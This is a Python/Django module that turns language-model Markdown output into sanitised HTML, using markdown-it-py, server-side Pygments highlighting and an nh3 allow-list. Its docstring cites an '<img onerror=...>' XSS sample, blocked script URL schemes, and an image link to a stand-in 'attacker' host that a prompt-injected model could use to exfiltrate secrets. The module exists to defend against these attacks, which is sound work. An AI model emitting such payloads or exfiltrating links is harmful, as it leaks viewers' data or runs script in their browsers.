"""Model output as safe HTML: Markdown without raw HTML, then an allow-list sanitiser.

Two layers, because either alone has failed somewhere before:

1. markdown-it-py's ``js-default`` preset (CommonMark plus tables and strikethrough)
   never passes raw HTML through (``<img onerror=...>`` comes out as text) and its
   link validator refuses ``javascript:``, ``vbscript:``, ``file:`` and ``data:`` URLs.
2. nh3 (ammonia) then keeps only an allow-list of tags, attributes and URL schemes, so
   nothing a future Markdown plugin emits can carry a script, an event handler or a
   script URL into the page.

Fenced code is highlighted here, on the server, by Pygments through markdown-it-py's
``highlight`` hook: the lexer's tokens become ``<span class="k">`` and the like (only
Pygments' own short class names pass nh3, see ALLOWED_CLASSES), coloured by
static/pygments.css (light and dark). No script runs to colour code, and a language
name in a fence only ever becomes a ``language-<word>`` class.

Images are not rendered at all: a model that was talked into writing
``![](https://attacker/?q=<secret>)`` would otherwise make every viewer's browser send
the secret away. The image's alt text and URL stay visible as text.
"""

from __future__ import annotations

import re
from functools import cache
from typing import Any

import nh3
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},  # language-xyz from fenced code blocks (filtered by _keep_attribute)
    "ol": {"start"},
    "td": {"align", "style"},
    "th": {"align", "style"},
}
URL_SCHEMES = {"http", "https", "mailto"}
#: The token classes Pygments' HtmlFormatter writes (k, nf, s2, ...), and nothing else.
ALLOWED_CLASSES = {"span": {name for name in STANDARD_TYPES.values() if name}}
_LANGUAGE_CLASS = re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}")
#: Longest code block worth highlighting: lexing is linear but not free.
HIGHLIGHT_MAX_CHARS = 100_000
_FORMATTER = HtmlFormatter(nowrap=True)


def highlight_code(code: str, lang: str, _attrs: Any) -> str:
    """markdown-it's highlight hook: Pygments spans for a known language, else "" (plain).

    markdown-it wraps what this returns in ``<pre><code class="language-x">`` itself.
    """
    if not lang or len(code) > HIGHLIGHT_MAX_CHARS:
        return ""
    try:
        lexer = get_lexer_by_name(lang.strip().lower(), stripnl=False, ensurenl=False)
    except ClassNotFound:
        return ""
    return str(highlight(code, lexer, _FORMATTER))


def _keep_attribute(tag: str, attribute: str, value: str) -> str | None:
    if tag == "code" and attribute == "class":
        kept = [name for name in value.split() if _LANGUAGE_CLASS.fullmatch(name)]
        return " ".join(kept) or None
    return value


def _render_image_as_text(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    return escape(f"[image: {alt}]({src})" if alt else f"[image]({src})")


@cache
def markdown_parser() -> MarkdownIt:
    md = MarkdownIt("js-default", {"breaks": True, "highlight": highlight_code})
    md.add_render_rule("image", _render_image_as_text)
    return md


def sanitize_html(html: str) -> str:
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        clean_content_tags={"script", "style"},
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=_keep_attribute,
        allowed_classes=ALLOWED_CLASSES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        filter_style_properties={"text-align"},
    )


def render_markdown(text: str) -> SafeString:
    """Markdown from a model (or anyone) as HTML that is safe to put in a page."""
    if not text:
        return mark_safe("")  # noqa: S308 - the empty string
    html = markdown_parser().render(text)
    return mark_safe(sanitize_html(html))  # noqa: S308 - sanitised by nh3 just above
